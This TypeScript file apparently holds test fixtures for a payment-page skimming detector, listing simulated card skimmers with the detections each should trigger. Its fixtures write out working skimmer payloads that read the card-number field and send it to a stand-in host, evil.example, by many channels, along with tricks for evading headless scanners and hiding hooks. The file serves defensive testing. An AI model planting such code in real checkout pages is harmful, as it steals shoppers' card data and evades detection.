import type { DifferenceKind } from "../../../domain/payment-page/differences.ts";
import type { ShopPlan } from "./shop/shop.ts";

/** What an attacker does to a payment page, as data. */
export interface Skimmer extends Omit<ShopPlan, "form"> {
  readonly name: string;
  readonly form?: ShopPlan["form"];
  /** What has to be named, by kind and a part of what is said. */
  readonly named: readonly (readonly [DifferenceKind, string])[];
  /** Visits within which it has to be named. @default 1 */
  readonly visits?: number;
  /** Whether it would be in others' way on one page. @default - it stands on a page with others */
  readonly alone?: boolean;
}

const js = "text/javascript";
const number = "document.getElementById('cc_number')";
/** Reads the field whenever a key goes up, and hands the value to `send`. */
const onKey = (send: string) =>
  `document.addEventListener('keyup',function(){var v=${number}&&${number}.value;if(v&&v.length>15){${send}}});`;
const script = (code: string) => `<script>${code}</script>`;
const image = "new Image().src='https://evil.example/i?c='+v;";
const served = (path: string, content: string, type = js): Skimmer["files"] => ({ [path]: () => [type, content] });

/** Ways to get code onto the page. */
const loaders: readonly Skimmer[] = [
  {
    name: "a script of another host",
    head: '<script src="https://evil.example/s.js"></script>',
    files: served("evil.example/s.js", "window.x=1"),
    named: [["script", "https://evil.example/s.js"]],
  },
  {
    name: "a script that loads late",
    body: script(
      "setTimeout(function(){var s=document.createElement('script');s.src='https://evil.example/late.js';document.body.append(s)},15000);",
    ),
    files: served("evil.example/late.js", "window.x=1"),
    named: [
      ["script", "late.js"],
      ["inline-script", "late.js"],
    ],
  },
  {
    name: "an inline script",
    body: script(onKey(image)),
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "https://evil.example/i"],
      ["card-read", "listens to keyup"],
    ],
  },
  {
    name: "a picture's onerror",
    body: `<img src="/nope.png" onerror="${onKey(image)}this.remove()">`,
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a drawing's onload",
    body: `<svg onload="${onKey(image)}"></svg>`,
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a handler that waits for the mouse",
    body: `<div onmouseover="fetch('https://evil.example/'+${number}.value)">x</div>`,
    named: [["inline-script", "evil.example"]],
  },
  {
    name: "focus that comes by itself",
    body: `<input autofocus onfocus="fetch('https://evil.example/f')">`,
    named: [["inline-script", "evil.example/f"]],
  },
  {
    name: "a script in a drawing",
    body: '<svg><script href="https://evil.example/svg.js"></script></svg>',
    files: served("evil.example/svg.js", "window.x=1"),
    named: [["script", "svg.js"]],
  },
  {
    name: "a javascript: link",
    body: `<a href="java&#10;script:fetch('https://evil.example/')">Pay</a>`,
    named: [["inline-script", "evil.example"]],
  },
  {
    name: "a base that moves relative files",
    alone: true,
    head: '<base href="https://evil.example/"><script src="lib/x.js"></script>',
    files: served("evil.example/lib/x.js", "window.x=1"),
    named: [["script", "https://evil.example/lib/x.js"]],
  },
  {
    name: "a module of another host",
    body: '<script type="module">import "https://evil.example/m.js";</script>',
    files: served("evil.example/m.js", "window.x=1"),
    named: [["script", "m.js"]],
  },
  {
    name: "code made of a text",
    body: script("new Function(atob('d2luZG93LmV2aWw9MQ=='))()"),
    named: [["inline-script", "window.evil=1"]],
  },
  {
    name: "a script that says it is the provider's",
    body: script(`${onKey(image)}\n//# sourceURL=https://js.pay.example/v3/`),
    named: [["inline-script", "keyup"]],
  },
  {
    name: "a frame's document in an attribute",
    body: `<iframe srcdoc="<script>parent.document.addEventListener('keyup',function(){})</script>"></iframe>`,
    named: [["inline-script", "keyup"]],
  },
  {
    name: "a frame made of data",
    body: `<iframe src="data:text/html,<script>fetch('https://evil.example/d',{mode:'no-cors'})</script>"></iframe>`,
    named: [["frame", "data:"]],
  },
  {
    name: "another container of the tag manager",
    head: '<script src="https://tags.example/gtm.js?id=GTM-EVIL1"></script>',
    named: [["script", "GTM-EVIL1"]],
  },
  {
    name: "an agreed tag manager that loads more",
    alone: true,
    files: served(
      "tags.example/gtm.js",
      "var s=document.createElement('script');s.src='https://evil.example/t.js';document.head.append(s);",
    ),
    named: [
      ["script", "https://evil.example/t.js"],
      ["script", "brought by https://tags.example/gtm.js"],
    ],
  },
  {
    name: "an agreed tag manager that reads the card",
    alone: true,
    files: served("tags.example/gtm.js", onKey("fetch('https://stats.example/collect?cid='+btoa(v),{mode:'no-cors'});")),
    named: [
      ["card-read", "tags.example/gtm.js"],
      ["card-sent", "base64"],
    ],
  },
  {
    name: "one of the store's own files, changed",
    alone: true,
    files: served(
      "/var/resources/default/https/js/common.js",
      `document.addEventListener("submit",function(e){if(!e.target.matches("form.product-details"))return;e.preventDefault();fetch("/",{method:"POST",body:new URLSearchParams(new FormData(e.target))})});${onKey(image)}`,
    ),
    named: [
      ["changed-script", "common.js"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a file of the store's own that is new",
    head: '<script src="/var/resources/default/https/js/jquery.min.js"></script>',
    files: served("/var/resources/default/https/js/jquery.min.js", "window.x=1"),
    named: [["script", "jquery.min.js"]],
  },
];

/** Ways to take what is typed. */
const takers: readonly Skimmer[] = [
  {
    name: "fetch is replaced",
    body: script("var f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};"),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "fetch is a proxy",
    body: script("window.fetch=new Proxy(window.fetch,{apply:function(t,s,a){return Reflect.apply(t,s,a)}});"),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "addEventListener is replaced",
    head: script(
      "var a=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(){return a.apply(this,arguments)};",
    ),
    named: [["hook", "addEventListener"]],
  },
  {
    name: "the field's value has a setter",
    body: script(
      "var d=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');Object.defineProperty(HTMLInputElement.prototype,'value',{get:function(){return d.get.call(this)},set:function(v){d.set.call(this,v)},configurable:true});",
    ),
    named: [["hook", "value"]],
  },
  {
    name: "XMLHttpRequest is replaced",
    body: script("var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(){return s.apply(this,arguments)};"),
    named: [["hook", "XMLHttpRequest.prototype.send"]],
  },
  {
    name: "a form's action is changed",
    body: script("document.querySelector('form.place').action='https://evil.example/pay';"),
    named: [["form", "https://evil.example/pay"]],
  },
  {
    name: "a form's action is changed for a moment",
    body: script(
      "var f=document.querySelector('form.place'),a=f.action;f.action='https://evil.example/moment';setTimeout(function(){f.action=a},30000);",
    ),
    named: [["form", "https://evil.example/moment"]],
  },
  {
    name: "a button with an action of its own",
    body: '<button form="x" formaction="https://evil.example/button">Pay</button>',
    named: [["form", "https://evil.example/button"]],
  },
  {
    name: "a base that moves forms",
    alone: true,
    body: '<base href="https://evil.example/"><form action="pay" method="post"></form>',
    named: [["form", "https://evil.example/pay"]],
  },
  {
    name: "a form in a closed shadow tree",
    form: "redirect",
    body: script(
      "var d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<form action=https://evil.example/shadow><input name=cc_number></form>';",
    ),
    named: [["form", "https://evil.example/shadow"]],
  },
  {
    name: "a frame laid over the fields",
    form: "frame",
    body: '<iframe src="https://evil.example/overlay" style="position:fixed;inset:0;width:400px;height:200px"></iframe>',
    files: served("evil.example/overlay", "<input name=cc_number>", "text/html"),
    named: [["frame", "https://evil.example/overlay"]],
  },
  {
    name: "fields of its own before a redirect",
    alone: true,
    form: "redirect",
    body: `<input id="cc_number" type="tel">${script(onKey("fetch('/collect',{method:'POST',body:v});"))}`,
    named: [
      ["card-read", "listens to keyup"],
      ["card-sent", "/collect"],
      ["inline-script", "keyup"],
    ],
  },
  {
    name: "a page that sends shoppers elsewhere",
    alone: true,
    body: `<meta http-equiv="refresh" content="60;url=https://evil.example/checkout">`,
    named: [["host", "https://evil.example"]],
  },
];

/** Ways to get it away. */
const senders: readonly Skimmer[] = [
  {
    name: "by fetch, reversed",
    body: script(onKey("fetch('https://evil.example/r',{method:'POST',mode:'no-cors',body:v.split('').reverse().join('')});")),
    named: [["card-sent", "reversed"]],
  },
  { name: "by a beacon", body: script(onKey("navigator.sendBeacon('https://evil.example/b',v);")), named: [["card-sent", "by beacon"]] },
  {
    name: "by a beacon when the page is left",
    body: script(`addEventListener('pagehide',function(){navigator.sendBeacon('https://evil.example/left',btoa(${number}.value))});`),
    named: [["card-sent", "evil.example/left"]],
  },
  {
    name: "by a picture, in hex",
    body: script(
      onKey("new Image().src='https://evil.example/'+v.split('').map(function(c){return c.charCodeAt(0).toString(16)}).join('')+'.gif';"),
    ),
    named: [["card-sent", "written hex"]],
  },
  {
    name: "by a WebSocket",
    body: script(`var w=new WebSocket('wss://evil.example/ws');${onKey("w.readyState===1&&w.send(v);")}`),
    named: [["host", "by websocket"]],
  },
  {
    name: "by WebRTC",
    body: script(
      "var p=new RTCPeerConnection({iceServers:[{urls:'turn:evil.example:3478',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(function(o){p.setLocalDescription(o)});",
    ),
    named: [["host", "turn:evil.example:3478"]],
  },
  {
    name: "by an address that is looked up",
    body: script(
      onKey(
        "var l=document.createElement('link');l.rel='dns-prefetch';l.href='https://'+v+'.evil.example/';document.head.append(l);l.remove();",
      ),
    ),
    named: [["card-sent", "by preconnect"]],
  },
  {
    name: "by a stylesheet",
    head: '<link rel="stylesheet" href="https://evil.example/s.css">',
    files: served("evil.example/s.css", "input[value^='4']{background:url(https://evil.example/4)}", "text/css"),
    named: [["stylesheet", "https://evil.example/s.css"]],
  },
  {
    name: "by the rules of a style",
    body: "<style>#cc_number{background:url(https://evil.example/css)}</style>",
    named: [["host", "by image"]],
  },
  {
    name: "by a font",
    body: "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff2);unicode-range:U+34}#cc_number{font-family:f}</style>",
    named: [["font", "https://evil.example/f.woff2"]],
  },
  {
    name: "by a form that is sent into a frame",
    body: `<iframe name="hole"></iframe>${script(onKey("if(!window.q){q=1;var f=document.createElement('form');f.method='post';f.target='hole';f.action='https://evil.example/hole';var i=document.createElement('input');i.name='c';i.value=v;f.append(i);document.body.append(f);f.submit();}"))}`,
    named: [
      ["card-sent", "https://evil.example/hole"],
      ["form", "https://evil.example/hole"],
    ],
  },
  {
    name: "by the store's own address",
    body: script(onKey("fetch('/?target=collect',{method:'POST',body:JSON.stringify({a:v.slice(0,8),b:v.slice(8)})});")),
    named: [["card-sent", "split"]],
  },
  {
    name: "digit by digit to a host that is agreed",
    alone: true,
    body: script(
      `${number}.addEventListener('keydown',function(e){if(/^[0-9]$/.test(e.key))fetch('https://stats.example/collect?k='+e.key,{mode:'no-cors',keepalive:true})});`,
    ),
    named: [
      ["card-sent", "piece by piece"],
      ["card-read", "keydown"],
    ],
  },
  {
    name: "by a worker",
    body: script("new Worker(URL.createObjectURL(new Blob([\"fetch('https://evil.example/w',{mode:'no-cors'})\"])));"),
    named: [
      ["host", "https://evil.example/w"],
      ["worker", "blob:"],
    ],
  },
  {
    name: "by a service worker",
    alone: true,
    everywhere: script("navigator.serviceWorker.register('/sw.js');"),
    files: served(
      "/sw.js",
      "self.addEventListener('install',function(){self.skipWaiting()});self.addEventListener('activate',function(e){e.waitUntil(clients.claim())});",
    ),
    named: [["worker", "/sw.js"]],
  },
  {
    name: "by a window that pops up",
    body: script("setTimeout(function(){window.open('https://evil.example/pop')},1000);"),
    named: [["host", "https://evil.example/pop"]],
  },
];

/** Ways to stay unseen. */
const hiders: readonly Skimmer[] = [
  {
    name: "a time bomb of two minutes",
    body: script(`setTimeout(function(){fetch('https://evil.example/bomb?'+btoa(${number}.value),{mode:'no-cors'})},120000);`),
    named: [["card-sent", "https://evil.example/bomb"]],
  },
  {
    name: "hides from navigator.webdriver",
    head: script(
      "if(!navigator.webdriver){var s=document.createElement('script');s.src='https://evil.example/human.js';document.head.append(s)}",
    ),
    files: served("evil.example/human.js", "window.x=1"),
    named: [["script", "human.js"]],
  },
  {
    name: "hides from headless browsers",
    head: script(
      "if(!/Headless/.test(navigator.userAgent+JSON.stringify(navigator.userAgentData||''))&&navigator.plugins.length&&navigator.languages.length&&window.chrome&&screen.width>800&&!/Linux/.test(navigator.platform)){var s=document.createElement('script');s.src='https://evil.example/head.js';document.head.append(s)}",
    ),
    files: served("evil.example/head.js", "window.x=1"),
    named: [["script", "head.js"]],
  },
  {
    name: "hides from data centres by reverse look-up",
    head: script(
      "fetch('https://whois.example/me').then(function(r){return r.text()}).then(function(n){if(!/amazonaws|compute/.test(n)){var s=document.createElement('script');s.src='https://evil.example/home.js';document.head.append(s)}});",
    ),
    files: served("whois.example/me", "ec2-203-0-113-9.compute-1.amazonaws.com", "text/plain"),
    named: [
      ["host", "https://whois.example"],
      ["inline-script", "whois.example"],
    ],
  },
  {
    name: "shows itself to one visitor in five",
    alone: true,
    head: '<script src="https://evil.example/fifth.js"></script>',
    shownTo: (visitor) => visitor % 5 === 0,
    files: served("evil.example/fifth.js", "window.x=1"),
    visits: 5,
    named: [["script", "fifth.js"]],
  },
  {
    name: "removes itself from the page",
    body: script(
      "var s=document.createElement('script');s.src='https://evil.example/gone.js';s.onload=function(){s.remove()};document.head.append(s);document.currentScript.remove();",
    ),
    files: served("evil.example/gone.js", "window.x=1"),
    named: [["script", "gone.js"]],
  },
  {
    name: "puts the browser's functions back",
    body: script(
      "var o=window.fetch;window.fetch=function(u){return o('https://evil.example/h',{mode:'no-cors'})};fetch('/');window.fetch=o;",
    ),
    named: [
      ["host", "https://evil.example/h"],
      ["inline-script", "evil.example/h"],
    ],
  },
  {
    name: "hides its function's text",
    body: script(
      "var o=window.fetch;window.fetch=function(){return o.apply(this,arguments)};window.fetch.toString=function(){return 'function fetch() { [native code] }'};Function.prototype.toString=function(){return 'function () { [native code] }'};",
    ),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "reads with a getter that was kept from before",
    head: script(
      `var g=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value').get;document.addEventListener('focusin',function(){setInterval(function(){var e=${number};if(e)g.call(e)},5)},{once:true});`,
    ),
    named: [["card-read", "reads the card's field"]],
  },
  {
    name: "takes a header away",
    alone: true,
    reply: (_, response) => {
      response.setHeader = (
        (set) => (name: string, value: number | string | readonly string[]) =>
          name === "strict-transport-security" ? response : set(name, value)
      )(response.setHeader.bind(response));
      return false;
    },
    named: [["header", "strict-transport-security"]],
  },
];

/** All of them. */
export const skimmers: readonly Skimmer[] = [...loaders, ...takers, ...senders, ...hiders];
